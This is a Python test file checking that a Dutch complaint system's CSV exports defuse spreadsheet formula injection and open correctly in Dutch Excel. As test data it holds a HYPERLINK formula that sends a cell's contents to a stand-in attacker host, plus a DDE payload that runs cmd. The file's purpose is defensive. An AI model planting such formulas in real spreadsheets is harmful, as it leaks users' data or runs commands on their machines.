"""Every CSV download through one writer (issues 16.5 and 15.8): no cell runs as a formula in a
spreadsheet, and Dutch Excel opens the file as it is (`;`, byte-order mark, Dutch headers)."""

from process.spreadsheet import BOM, cell, csv_text, read_rows

from .conftest import do, register, to_contact

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1;"klik")'


def test_a_procedure_change_cannot_plant_a_formula_in_the_report_csv(as_user, engine):
    reference = register(engine)
    to_contact(engine, reference)
    do(engine, reference, "contact_opnemen", "yasmin", contact_summary="Gebeld.", outcome="opgelost")
    do(
        engine,
        reference,
        "afhandeling_rapporteren",
        "yasmin",
        resolution="Opgelost.",
        procedure_change=True,
        procedure_change_description=ATTACK,
        procedure_change_term="2026-12-18",
    )
    body = as_user("yasmin").get("/rapportage/2026Q4.csv").get_data(as_text=True)
    assert body.startswith(BOM)
    rows = read_rows(body)
    assert set(rows[0]) == {"onderdeel", "cijfer", "waarde", "vorige periode"}
    [described] = [r for r in rows if r["cijfer"].endswith(".description")]
    assert described["waarde"] == "'" + ATTACK
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values() if value)


def test_the_audit_csv_is_excel_ready_too(as_user, engine):
    register(engine, complainant_name="@SUM(1+1)*cmd|' /C calc'!A0")
    body = as_user("anna").get("/audit/klachten.csv").get_data(as_text=True)
    assert body.startswith(BOM) and body.splitlines()[0].startswith(BOM + "kenmerk;klager;")
    [row] = read_rows(body)
    assert row["klager"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_writer_defuses_every_formula_start_and_speaks_dutch():
    for start in ("=", "+", "-", "@", "\t", "\r", " =", "|"):
        assert cell(start + "1+1").startswith("'")
    assert (cell(0.625), cell(-3), cell(True), cell(False), cell(None)) == ("0,625", "-3", "ja", "nee", "")
    assert csv_text(("a", "b"), [("x;y", 'z"')]) == BOM + 'a;b\r\n"x;y";"z"""\r\n'
